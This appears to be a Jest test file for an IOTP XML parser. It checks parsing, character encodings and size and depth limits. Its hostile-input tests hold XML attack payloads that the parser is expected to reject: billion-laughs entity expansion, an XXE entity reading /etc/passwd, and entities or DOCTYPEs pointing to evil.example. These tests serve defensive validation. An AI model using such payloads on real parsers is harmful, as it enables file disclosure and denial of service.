import { parseIotpXml, type ParseOutcome } from './parse';
import { isElement, type XmlElement } from './xml-node';

const NS = 'iotp:ietf.org/iotp-v1.0';
const utf8 = (s: string): Buffer => Buffer.from(s, 'utf8');
const msg = (inner: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<IotpMessage xmlns="${NS}">${inner}</IotpMessage>`;
const bare = (inner: string): string => `<IotpMessage xmlns="${NS}">${inner}</IotpMessage>`;
const code = (o: ParseOutcome): string => (o.ok ? 'ok' : o.error.code);
const root = (o: ParseOutcome): XmlElement => {
  if (!o.ok) throw new Error(`${o.error.code}: ${o.error.desc}`);
  return o.root;
};
const child = (el: XmlElement, i = 0): XmlElement => el.children.filter(isElement)[i];

/** A well-formed message padded with a comment to exactly `size` bytes. */
function messageOfSize(size: number): Buffer {
  const base = msg('<!---->');
  return utf8(base.replace('<!---->', `<!--${'x'.repeat(size - Buffer.byteLength(base))}-->`));
}

function nested(depth: number): string {
  let s = '';
  for (let i = 1; i < depth; i++) s += '<x:E>';
  for (let i = 1; i < depth; i++) s += '</x:E>';
  return msg(s);
}

describe('parseIotpXml', () => {
  describe('When the body is a valid IOTP message', () => {
    it('returns the tree with attributes in document order and blank text between elements dropped', () => {
      const r = root(
        parseIotpXml(
          utf8(msg('\n  <TransRefBlk ID="C1.1">\n    <MsgId ID="C1" xml:lang="en"/>\n  </TransRefBlk>\n')),
        ),
      );
      expect(r).toEqual({
        name: 'IotpMessage',
        attrs: { xmlns: NS },
        children: [
          {
            name: 'TransRefBlk',
            attrs: { ID: 'C1.1' },
            children: [{ name: 'MsgId', attrs: { ID: 'C1', 'xml:lang': 'en' }, children: [] }],
          },
        ],
      });
      expect(Object.keys(child(child(r)).attrs)).toEqual(['ID', 'xml:lang']);
    });

    it('accepts a message without XML declaration and without xmlns', () => {
      expect(code(parseIotpXml(utf8('<IotpMessage><A/></IotpMessage>')))).toBe('ok');
    });

    it('keeps blank text inside PackagedContent and merges text, CDATA and references in order', () => {
      const r = root(
        parseIotpXml(
          utf8(
            msg(
              '<PackagedContent Name="N"> a&amp;b <![CDATA[<c>]]> &#65;&#x42;<!-- c --> </PackagedContent><PackagedContent>  </PackagedContent>',
            ),
          ),
        ),
      );
      expect(child(r).children).toEqual([{ text: ' a&b <c> AB ' }]);
      expect(child(r, 1).children).toEqual([{ text: '  ' }]);
    });

    it('decodes references in one pass (&amp;#65; stays &#65;)', () => {
      const r = root(parseIotpXml(utf8(msg('<A v="&amp;#65;">&amp;lt;</A>'))));
      expect(child(r).attrs.v).toBe('&#65;');
      expect(child(r).children).toEqual([{ text: '&lt;' }]);
    });

    it('normalises CR LF and CR to LF in text', () => {
      const r = root(parseIotpXml(utf8(msg('<Value>a\r\nb\rc</Value>'))));
      expect(child(r).children).toEqual([{ text: 'a\nb\nc' }]);
    });

    it('turns literal TAB, LF, CR in attribute values into spaces but keeps character references', () => {
      const r = root(parseIotpXml(utf8(msg('<A v="a\tb\r\nc\nd&#10;e&#9;"/>'))));
      expect(child(r).attrs.v).toBe('a b c d\ne\t');
    });

    it('ignores comments and processing instructions', () => {
      const r = root(
        parseIotpXml(utf8(`<!-- c --><?pi x?>${bare('<A/><?other?><!-- d -->')}<!-- after -->`)),
      );
      expect(r.children).toEqual([{ name: 'A', attrs: {}, children: [] }]);
    });

    it('accepts a DOCTYPE without internal subset and never fetches it', () => {
      const body = `<?xml version="1.0"?>\n<!DOCTYPE IotpMessage SYSTEM "http://evil.example/iotp.dtd">\n${bare('<A/>')}`;
      expect(code(parseIotpXml(utf8(body)))).toBe('ok');
      expect(code(parseIotpXml(utf8(`<!DOCTYPE IotpMessage PUBLIC "-//x//y" "iotp.dtd">${bare('')}`)))).toBe(
        'ok',
      );
    });

    it('accepts extension elements and IOTP:Critical with undeclared prefixes', () => {
      expect(code(parseIotpXml(utf8(msg('<x:Ext xmlns:x="urn:x" IOTP:Critical="False"/>'))))).toBe('ok');
    });
  });

  describe('When the encoding varies (profile §1.2)', () => {
    const text = msg('<A v="é€">ü</A>');
    it('reads UTF-8 with and without BOM', () => {
      expect(child(root(parseIotpXml(utf8(text)))).attrs.v).toBe('é€');
      expect(
        child(root(parseIotpXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(text)])))).attrs.v,
      ).toBe('é€');
    });

    it('reads UTF-16 LE and BE with BOM', () => {
      const le = Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le'),
      ]);
      const be = Buffer.from(le).swap16();
      expect(child(root(parseIotpXml(le))).attrs.v).toBe('é€');
      expect(child(root(parseIotpXml(be, 'application/iotp; charset=utf-8'))).attrs.v).toBe('é€'); // BOM wins
    });

    it('reads US-ASCII and honours the charset parameter before the declaration', () => {
      expect(code(parseIotpXml(utf8(msg('<A/>')), 'application/iotp; charset=US-ASCII'))).toBe('ok');
      const latin1 = Buffer.from(text.replace('é€', 'é'), 'latin1');
      expect(child(root(parseIotpXml(latin1, 'application/iotp; charset="ISO-8859-1"'))).attrs.v).toBe('é');
      const declared = Buffer.from(msg('<A v="é"/>').replace('UTF-8', 'ISO-8859-1'), 'latin1');
      expect(child(root(parseIotpXml(declared))).attrs.v).toBe('é');
    });

    it('refuses invalid UTF-8, non-ASCII bytes under US-ASCII, an unknown charset (XmlNotWellFrmd)', () => {
      expect(
        code(parseIotpXml(Buffer.concat([utf8(msg('<A v="')), Buffer.from([0xc3, 0x28]), utf8('"/>')]))),
      ).toBe('XmlNotWellFrmd');
      expect(code(parseIotpXml(utf8(text), 'application/iotp; charset=us-ascii'))).toBe('XmlNotWellFrmd');
      expect(code(parseIotpXml(utf8(msg('')), 'application/iotp; charset=x-klingon'))).toBe('XmlNotWellFrmd');
      expect(code(parseIotpXml(utf8(msg('').replace('UTF-8', 'x-klingon'))))).toBe('XmlNotWellFrmd');
    });
  });

  describe('When the body is hostile (profile §1.4)', () => {
    it('row 1: accepts exactly 262144 bytes, refuses 262145 with MsgTooLarge', () => {
      expect(code(parseIotpXml(messageOfSize(262_144)))).toBe('ok');
      expect(code(parseIotpXml(messageOfSize(262_145)))).toBe('MsgTooLarge');
    });

    it('row 1 is decided before anything else', () => {
      const garbage = Buffer.concat([Buffer.from([0xff, 0xff]), Buffer.alloc(262_144, 0x3c)]);
      expect(code(parseIotpXml(garbage))).toBe('MsgTooLarge');
    });

    it('row 3: billion laughs, XXE and parameter entities are XmlNotValid', () => {
      const laughs =
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">' +
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><IotpMessage>&lol3;</IotpMessage>';
      const xxe =
        '<!DOCTYPE IotpMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><IotpMessage>&xxe;</IotpMessage>';
      const pe =
        '<!DOCTYPE IotpMessage [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]><IotpMessage/>';
      const attlist = '<!DOCTYPE IotpMessage [<!ATTLIST IotpMessage a CDATA "x">]><IotpMessage/>';
      for (const body of [laughs, xxe, pe, attlist])
        expect(code(parseIotpXml(utf8(body)))).toBe('XmlNotValid');
    });

    it('row 3 wins over a well-formedness error before the DOCTYPE', () => {
      expect(code(parseIotpXml(utf8('junk<!DOCTYPE IotpMessage [<!ENTITY a "b">]><IotpMessage/>')))).toBe(
        'XmlNotValid',
      );
    });

    it('row 4: named entities other than the five predefined ones are XmlNotWellFrmd', () => {
      expect(code(parseIotpXml(utf8(msg('<A>&nbsp;</A>'))))).toBe('XmlNotWellFrmd');
      expect(code(parseIotpXml(utf8(msg('<A v="&copy;"/>'))))).toBe('XmlNotWellFrmd');
    });

    it.each([
      ['truncated', msg('<A>').slice(0, -10)],
      ['mismatched tags', msg('<A></B>')],
      ['repeated attribute', msg('<A ID="1" ID="2"/>')],
      ['empty body', ''],
      ['text outside the root', `${msg('')}trailing`],
      ['text before the root', `x${msg('')}`],
      ['two roots', `${msg('')}<IotpMessage/>`],
      ['unquoted attribute', msg('<A ID=1/>')],
      ['< in attribute value', msg('<A ID="<"/>')],
      ['bare &', msg('<A>a & b</A>')],
      ['invalid character reference', msg('<A>&#0;</A>')],
      ['control character', msg('<A>\u0001</A>')],
      [']]> in text', msg('<A>]]></A>')],
      ['-- in comment', msg('<!-- a -- b -->')],
      ['XML declaration not first', ` ${msg('')}`],
      ['missing space between attributes', msg('<A a="1"b="2"/>')],
      ['CDATA outside the root', `<![CDATA[x]]>${msg('')}`],
    ])('row 5: %s is XmlNotWellFrmd', (_label, body) => {
      expect(code(parseIotpXml(utf8(body)))).toBe('XmlNotWellFrmd');
    });

    it('row 6: depth 32 is accepted, 33 is XmlNotValid', () => {
      expect(code(parseIotpXml(utf8(nested(32))))).toBe('ok');
      expect(code(parseIotpXml(utf8(nested(33))))).toBe('XmlNotValid');
    });

    it('row 6 yields to a later well-formedness error (decision order)', () => {
      expect(code(parseIotpXml(utf8(nested(40).replace('</IotpMessage>', '</Wrong>'))))).toBe(
        'XmlNotWellFrmd',
      );
    });

    it('row 7: 4096 elements are accepted, 4097 are MsgTooLarge', () => {
      expect(code(parseIotpXml(utf8(msg('<A/>'.repeat(4095)))))).toBe('ok');
      expect(code(parseIotpXml(utf8(msg('<A/>'.repeat(4096)))))).toBe('MsgTooLarge');
    });

    it('row 8: wrong root, wrong namespace, prefixed IOTP element are XmlNotValid', () => {
      expect(code(parseIotpXml(utf8('<Other/>')))).toBe('XmlNotValid');
      expect(code(parseIotpXml(utf8('<IotpMessage xmlns="urn:example:not-iotp"/>')))).toBe('XmlNotValid');
      expect(code(parseIotpXml(utf8(`<iotp:IotpMessage xmlns:iotp="${NS}"/>`)))).toBe('XmlNotValid');
      expect(code(parseIotpXml(utf8(msg(`<i:TransRefBlk xmlns:i="${NS}"/>`))))).toBe('XmlNotValid');
    });

    it('describes the problem for the ErrorDesc', () => {
      const o = parseIotpXml(utf8('<IotpMessage xmlns="urn:example:not-iotp"/>'));
      expect(o).toEqual({
        ok: false,
        error: {
          code: 'XmlNotValid',
          desc: "namespace 'urn:example:not-iotp' is not iotp:ietf.org/iotp-v1.0",
        },
      });
    });
  });
});
